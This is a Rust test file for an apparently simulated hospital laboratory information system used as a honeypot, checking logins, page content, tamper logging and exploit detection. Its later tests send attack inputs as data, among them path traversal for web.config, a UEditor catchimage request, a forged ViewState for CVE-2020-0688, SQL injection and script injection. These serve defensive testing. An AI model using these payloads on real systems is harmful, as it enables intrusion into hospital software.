//! The laboratory's pages: who gets in, that they show the world, what is changed there, and what is
//! tried on them.

use jiff::Timestamp;

use super::embedded::Face;
use crate::event::Observation;
use crate::event::observation::RecordKind;
use crate::session::bench::NOW;
use crate::world::{LabOrder, View};

fn get(path: &str, cookie: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: lis\r\nCookie: {cookie}\r\n\r\n")
}

fn post(path: &str, cookie: &str, body: &str) -> String {
    format!(
        "POST {path} HTTP/1.1\r\nHost: lis\r\nCookie: {cookie}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn page(face: &Face, path: &str, cookie: &str) -> String {
    let (head, body) = face.ask(&get(path, cookie));
    assert!(head.starts_with("HTTP/1.1 200 OK\r\n"), "{path}: {head}");
    String::from_utf8(body).unwrap()
}

/// With the lure's password.
fn cookie(face: &Face) -> String {
    let account = &face.bench.pack.host("lis").unwrap().accounts[0];
    let password = account.password.replace('@', "%40");
    let form = format!("__VIEWSTATE=x&txtUser={}&txtPwd={password}&btnLogin=1", account.name);
    let (head, _) = face.ask(&post("/Login.aspx", "", &form));
    assert!(head.contains("\r\nLocation: /Main.aspx\r\n"), "{head}");
    let line = head.lines().find(|line| line.starts_with("Set-Cookie: ")).unwrap();
    line["Set-Cookie: ".len()..].split(';').next().unwrap().to_owned()
}

fn view(face: &Face) -> View {
    face.bench.world.at(NOW.parse::<Timestamp>().unwrap())
}

fn blood_count(view: &View) -> LabOrder {
    let day = view.local(view.now()).date();
    view.lab_orders_on(day).into_iter().find(|o| o.panel == "L1001" && o.verified.is_some()).unwrap()
}

#[test]
fn nobody_sees_anything_without_a_login() {
    let face = Face::of("lis");
    assert!(page(&face, "/", "").contains("检验信息管理系统"));
    for path in ["/Main.aspx", "/Analysis/Result.aspx?bc=260302000001", "/Report/Print.ashx?bc=260302000001"]
    {
        let (head, _) = face.ask(&get(path, ".LISAUTH=0123456789ABCDEF0123456789ABCDEF"));
        assert!(
            head.starts_with("HTTP/1.1 302 Found\r\n") && head.contains("/Login.aspx?ReturnUrl="),
            "{head}"
        );
    }
    let (_, body) = face.ask(&post("/Login.aspx", "", "txtUser=admin&txtPwd=<x>"));
    assert!(String::from_utf8(body).unwrap().contains("工号或密码错误"));
    let told = face.events();
    assert!(told.iter().any(|event| matches!(event, Observation::AuthAttempt { accepted: false, .. })));
    assert!(told.iter().all(|event| !matches!(event, Observation::RecordRead { .. })));
}

#[test]
fn every_page_shows_the_world() {
    let face = Face::of("lis");
    let cookie = cookie(&face);
    assert!(
        face.events()
            .iter()
            .any(|e| matches!(e, Observation::LureTouched { lure, .. } if lure == "lis/lisadmin"))
    );
    let view = view(&face);
    let order = blood_count(&view);
    let patient = view.patient(order.patient).unwrap();
    let listed = view.lab_list_on(view.local(view.now()).date());
    assert!(page(&face, "/Main.aspx", &cookie).contains(&format!("<b>{}</b>今日申请", listed.len())));
    let found = page(&face, &format!("/Specimen/Query.aspx?by=mrn&q={}", patient.mrn), &cookie);
    assert!(found.contains(&order.specimen) && found.contains(&patient.name.chinese()));
    let result = page(&face, &format!("/Analysis/Result.aspx?bc={}", order.specimen), &cookie);
    for one in &order.results {
        assert!(result.contains(&format!("value=\"{}\"", one.value)), "{}: {}", one.item.code, one.value);
    }
    assert!(result.contains(&order.run.as_ref().unwrap().instrument));
    let report = page(&face, &format!("/Report/View.aspx?bc={}", order.specimen), &cookie);
    assert!(report.contains(&patient.mrn) && report.contains("检验报告单"));
    let critical = page(&face, "/Critical/List.aspx?date=2026-03-01", &cookie);
    let all = view.criticals_on("2026-03-01".parse().unwrap());
    assert!(critical.contains(&format!("当日危急值 {} 条", all.len())) && all.len() > 5);
    let chart = page(&face, "/QC/Chart.aspx?instr=CHEM01&item=ALT&level=2", &cookie);
    let runs = view.control_chart("CHEM01", "ALT", 2, "2026-03-02".parse().unwrap(), 30);
    assert_eq!(chart.matches("<circle ").count(), runs.len());
    assert!(chart.contains(&runs.last().unwrap().lot) && runs.len() >= 30);
    let instruments = page(&face, "/QC/Calibration.aspx?instr=CHEM01", &cookie);
    assert!(view.instruments().iter().all(|one| instruments.contains(&one.serial)));
    assert!(page(&face, "/Stat/Workload.aspx", &cookie).contains("血常规"));
    let told = face.events();
    assert!(told.iter().any(|event| matches!(event,
        Observation::RecordRead { subject: RecordKind::LabResult, ids, .. } if *ids == [order.specimen.clone()])));
}

#[test]
fn work_lists_are_paged_and_filtered() {
    let face = Face::of("lis");
    let cookie = cookie(&face);
    let view = view(&face);
    let all = view.lab_list_on(view.local(view.now()).date());
    let pending = all.iter().filter(|o| o.collected.is_some() && o.analysed.is_none()).count();
    let first = page(&face, "/Analysis/Worklist.aspx?state=1", &cookie);
    assert!(first.contains(&format!("共 {pending} 条")) && pending > 20, "{pending}");
    let rows = |page: &str| page.matches("/Analysis/Result.aspx?bc=").count();
    assert_eq!(rows(&first), 20);
    let second = page(&face, "/Analysis/Worklist.aspx?state=1&page=2", &cookie);
    assert_ne!(first, second);
    let own = page(&face, "/Analysis/Worklist.aspx?instr=HEME01&state=3", &cookie);
    assert!(!own.contains("CHEM01</td>") && own.contains("HEME01</td>"));
    let exported = face.ask(&get("/Report/Export.ashx?instr=HEME01", &cookie)).1;
    let text = encoding_rs::GBK.decode(&exported).0.into_owned();
    let measured =
        all.iter().filter(|o| o.run.as_ref().is_some_and(|run| run.instrument == "HEME01")).count();
    assert_eq!(text.lines().count(), measured + 1);
    assert!(
        face.events()
            .iter()
            .any(|e| matches!(e, Observation::Query { unbounded: true, answers, .. } if *answers > 20))
    );
}

#[test]
fn what_is_changed_is_told_and_shown_to_its_writer() {
    let face = Face::of("lis");
    let cookie = cookie(&face);
    let order = blood_count(&view(&face));
    face.events();
    let path = format!("/Analysis/Result.aspx?bc={}", order.specimen);
    let (head, _) = face.ask(&post(&path, &cookie, "__VIEWSTATE=x&r0=0.07&btnSave=1"));
    assert!(head.contains(&format!("Location: {path}&done=1")), "{head}");
    let told = face.events();
    assert!(told.iter().any(|event| matches!(event, Observation::Tampering { id, changes, .. }
        if *id == order.specimen && changes[0].field == "WBC" && changes[0].to.as_untrusted() == "0.07")));
    let shown = page(&face, &path, &cookie);
    assert!(shown.contains("value=\"0.07\"") && shown.contains("WBC 修改为 0.07") && shown.contains("↓"));
    let report = page(&face, &format!("/Report/View.aspx?bc={}", order.specimen), &cookie);
    assert!(report.contains("<td>0.07</td>"));
    assert!(
        page(&Face::of("lis"), &path, &cookie).contains(&format!("value=\"{}\"", order.results[0].value))
    );
}

#[test]
fn an_audit_is_kept_told_and_shown_to_its_writer() {
    let face = Face::of("lis");
    let cookie = cookie(&face);
    let view = view(&face);
    let today = view.lab_list_on(view.local(view.now()).date());
    let order = today.iter().find(|order| order.analysed.is_some() && order.verified.is_none()).unwrap();
    let path = format!("/Analysis/Result.aspx?bc={}", order.specimen);
    face.events();
    let (head, _) = face.ask(&post(&path, &cookie, "btnAudit=%E5%AE%A1+%E6%A0%B8"));
    assert!(head.contains(&format!("Location: {path}&done=2")), "{head}");
    let told = face.events();
    assert!(told.iter().any(|event| matches!(event, Observation::Tampering { id, changes, .. }
        if *id == order.specimen && changes[0].field == "verifier")));
    assert!(told.iter().any(|event| matches!(event, Observation::RecordWrite { count: 1, .. })));
    let shown = page(&face, &path, &cookie);
    assert!(shown.contains("状态：<b>已审核</b>") && shown.contains("结果审核"), "{shown}");
    let listed = page(&face, &format!("/Specimen/Receive.aspx?bc={}", order.specimen), &cookie);
    assert!(listed.contains("<td>已审核</td>"), "{listed}");
    let (head, _) = face.ask(&post(&path, &cookie, "btnAudit=x"));
    assert!(head.contains("&done=3"), "{head}");
    assert!(page(&Face::of("lis"), &path, &cookie).contains("状态：<b>待审核</b>"));
}

#[test]
fn a_report_is_printed_as_a_document() {
    let face = Face::of("lis");
    let cookie = cookie(&face);
    let order = blood_count(&view(&face));
    let (head, file) = face.ask(&get(&format!("/Report/Print.ashx?bc={}", order.specimen), &cookie));
    assert!(head.contains("Content-Type: application/pdf\r\n"), "{head}");
    assert!(file.starts_with(b"%PDF-1.4") && file.ends_with(b"%%EOF\n"));
}

#[test]
fn what_is_tried_is_answered_as_the_product_does_and_told() {
    let face = Face::of("lis");
    let (head, body) = face.ask(&get("/Report/DownFile.ashx?path=..%5c..%5cweb.config", ""));
    assert!(head.contains("filename=web.config"), "{head}");
    let settings = String::from_utf8(body).unwrap();
    assert!(
        settings.contains("Initial Catalog=THIS4;User ID=winhis;Password=Win@His")
            && settings.contains("澄岚市中心医院")
    );
    let (_, body) = face.ask(&post(
        "/ueditor/net/controller.ashx?action=catchimage",
        "",
        "source[]=http://10.9.8.7/x.gif?.aspx",
    ));
    assert!(String::from_utf8(body).unwrap().contains("\"state\":\"SUCCESS\""));
    face.ask(&post("/Login.aspx", "", "__VIEWSTATE=%2FwAAEAAAD%2F%2F%2F%2F%2FAQ&txtUser=a"));
    face.ask(&post("/Login.aspx", "", "txtUser=admin'+or+'1'%3D'1'--&txtPwd=x"));
    let told = face.events();
    for weakness in ["lis-file-read", "ueditor-net-catchimage", "CVE-2020-0688", "sql-injection"] {
        let seen = |event: &Observation| matches!(event, Observation::ExploitAttempt { weakness: seen, .. } if seen == weakness);
        assert!(told.iter().any(seen), "{weakness}");
    }
    assert!(told.iter().any(|event| matches!(event, Observation::AuthAttempt { accepted: true, .. })));
    let (head, _) = face.ask(&get("/web.config", ""));
    assert!(head.starts_with("HTTP/1.1 404 "));
}

#[test]
fn values_of_visitors_are_escaped_and_cut() {
    let face = Face::of("lis");
    let cookie = cookie(&face);
    let order = blood_count(&view(&face));
    let path = format!("/Analysis/Result.aspx?bc={}", order.specimen);
    let long = "x".repeat(5000);
    face.ask(&post(&path, &cookie, &format!("r0=%3Cscript%3E{long}")));
    let shown = page(&face, &path, &cookie);
    assert!(shown.contains("&lt;script&gt;") && !shown.contains("<script>x"));
    assert!(shown.len() < 20_000, "{}", shown.len());
    let found = page(&face, "/Specimen/Query.aspx?by=name&q=%22%3E%3Cb%3E", &cookie);
    assert!(!found.contains("\"><b>"));
}
